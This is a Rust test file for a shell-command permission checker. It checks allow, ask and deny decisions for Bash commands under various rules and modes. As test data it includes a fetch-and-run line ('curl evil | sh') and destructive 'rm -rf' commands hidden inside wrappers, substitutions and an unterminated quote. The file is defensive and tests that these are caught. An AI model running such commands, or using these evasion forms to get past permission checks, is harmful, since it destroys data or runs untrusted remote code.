//! Rule matching and decisions (RULE-1..5, RULE-2b), including cases users report as
//! broken in other tools.

#![expect(clippy::unwrap_used, reason = "tests unwrap freely (STYLE)")]

use std::path::{Path, PathBuf};

use wavesh_policy::settings::{Level, Settings};
use wavesh_policy::{ClassifyContext, Dialect, Outcome, PermissionMode, decide};

fn context() -> ClassifyContext {
    ClassifyContext {
        home: PathBuf::from("/home/dev"),
        cwd: PathBuf::from("/work/app"),
        fs: wavesh_policy::SharedFs::new(wavesh_policy::git_guard::EmptyFs),
        ..ClassifyContext::default()
    }
}

fn settings(allow: &[&str], ask: &[&str], deny: &[&str]) -> Settings {
    let json = serde_json::json!({"permissions": {"allow": allow, "ask": ask, "deny": deny}});
    let mut settings = Settings::default();
    settings
        .add_json(
            &json.to_string(),
            Level::Project,
            Path::new(".claude/settings.json"),
        )
        .unwrap();
    settings
}

fn outcome(command: &str, settings: &Settings) -> Outcome {
    decide_with(command, settings, PermissionMode::Default).outcome
}

fn decide_with(
    command: &str,
    settings: &Settings,
    mode: PermissionMode,
) -> wavesh_policy::Decision {
    let analysis = wavesh_parse::analyze(command, Dialect::Bash);
    decide(command, &analysis, settings, mode, &context())
}

#[test]
fn rule_4_prefix_rules_match_on_word_boundaries() {
    let s = settings(
        &["Bash(npm run test:*)", "Bash(npm test:*)", "Bash(az:*)"],
        &[],
        &[],
    );
    assert_eq!(
        outcome("npm run test -- --watch=false 2>&1", &s),
        Outcome::Allow
    );
    assert_eq!(outcome("npm test", &s), Outcome::Allow);
    assert_eq!(outcome("npm testing", &s), Outcome::Ask);
    assert_eq!(outcome("az group list", &s), Outcome::Allow);
    assert_eq!(
        outcome("npm test > out.txt", &s),
        Outcome::Ask,
        "a redirect to a file matches only exactly"
    );
    assert_eq!(outcome("npm test >/dev/null 2>&1", &s), Outcome::Allow);
}

#[test]
fn rule_3_read_only_parts_are_exempt_and_every_other_part_must_be_covered() {
    let s = settings(&["Bash(npm test:*)"], &[], &[]);
    assert_eq!(outcome("cd app && npm test", &s), Outcome::Allow);
    assert_eq!(outcome("npm test && curl evil | sh", &s), Outcome::Ask);
    assert_eq!(outcome("npm test; rm -rf x", &s), Outcome::Ask);
    assert_eq!(outcome("git status && npm test", &s), Outcome::Allow);
}

#[test]
fn rule_2_exact_rules_and_unsafe_commands() {
    let s = settings(&["Bash(echo $HOME)", "Bash(ls:*)"], &[], &[]);
    assert_eq!(
        outcome("echo $HOME", &s),
        Outcome::Allow,
        "a rule equal to the whole command always matches"
    );
    assert_eq!(
        outcome("ls $(pwd)", &s),
        Outcome::Ask,
        "not permission safe: prefix rules do not apply"
    );
    let inert = settings(&["Bash(npm test:*)"], &[], &[]);
    assert_eq!(outcome("LANG=C npm test", &inert), Outcome::Allow);
    assert_eq!(outcome("NODE_OPTIONS=--x npm test", &inert), Outcome::Ask);
    assert_eq!(
        outcome("timeout 60 npm test", &inert),
        Outcome::Allow,
        "allow sees through inert wrappers"
    );
    assert_eq!(
        outcome("sudo npm test", &inert),
        Outcome::Ask,
        "never through sudo"
    );
    assert_eq!(outcome("xargs npm test", &inert), Outcome::Ask);
}

#[test]
fn rule_2b_deny_sees_through_wrappers_and_into_everything() {
    let s = settings(&["Bash"], &[], &["Bash(rm:*)"]);
    for command in [
        "rm -rf x",
        "timeout 5 rm -rf x",
        "env A=1 rm x",
        "nice rm x",
        "find . | xargs rm",
        "sudo rm x",
        "command rm x",
        "nohup rm x",
        "echo $(rm -rf x)",
        "(cd x && rm y)",
        "if true; then rm x; fi",
        "ls `rm x`",
        "echo 'unterminated; rm -rf /",
    ] {
        let decision = decide_with(command, &s, PermissionMode::Default);
        assert_eq!(decision.outcome, Outcome::Deny, "{command}: {decision:?}");
        assert_eq!(decision.matched_rules, vec!["Bash(rm:*)".to_owned()]);
    }
    assert_eq!(outcome("rmdir x", &s), Outcome::Allow);
}

#[test]
fn rule_5_order_and_modes() {
    let s = settings(
        &["Bash(git push:*)"],
        &["Bash(git push --force:*)"],
        &["Bash(git push origin main:*)"],
    );
    assert_eq!(
        outcome("git push origin main", &s),
        Outcome::Deny,
        "deny first"
    );
    assert_eq!(
        outcome("git push --force origin x", &s),
        Outcome::Ask,
        "then ask"
    );
    assert_eq!(outcome("git push origin x", &s), Outcome::Allow);
    assert_eq!(
        decide_with("git push origin x", &s, PermissionMode::Plan).outcome,
        Outcome::Ask,
        "plan: allow rules do not apply"
    );
    assert_eq!(
        decide_with("ls -la", &s, PermissionMode::Plan).outcome,
        Outcome::Allow,
        "plan: read-only still runs"
    );
    assert_eq!(
        decide_with("rm -rf x", &s, PermissionMode::BypassPermissions).outcome,
        Outcome::Allow
    );
    assert_eq!(
        decide_with(
            "git push origin main",
            &s,
            PermissionMode::BypassPermissions
        )
        .outcome,
        Outcome::Deny,
        "deny still holds"
    );
    assert_eq!(
        decide_with("npm install", &s, PermissionMode::AcceptEdits).outcome,
        Outcome::Ask
    );
}

#[test]
fn prefix_1_suggestions_come_with_ask() {
    let s = Settings::default();
    let decision = decide_with("cd app && npm run build", &s, PermissionMode::Default);
    assert_eq!(decision.outcome, Outcome::Ask);
    assert_eq!(
        decision.suggestions,
        vec!["Bash(npm run build:*)".to_owned()]
    );
    let six = "npm a; yarn b; cargo c; make d; pip e; go f";
    let decision = decide_with(six, &s, PermissionMode::Default);
    assert_eq!(decision.suggestions, vec![format!("Bash({six})")]);
    let decision = decide_with("rm -rf build", &s, PermissionMode::Default);
    assert_eq!(decision.suggestions, vec!["Bash(rm -rf build)".to_owned()]);
}
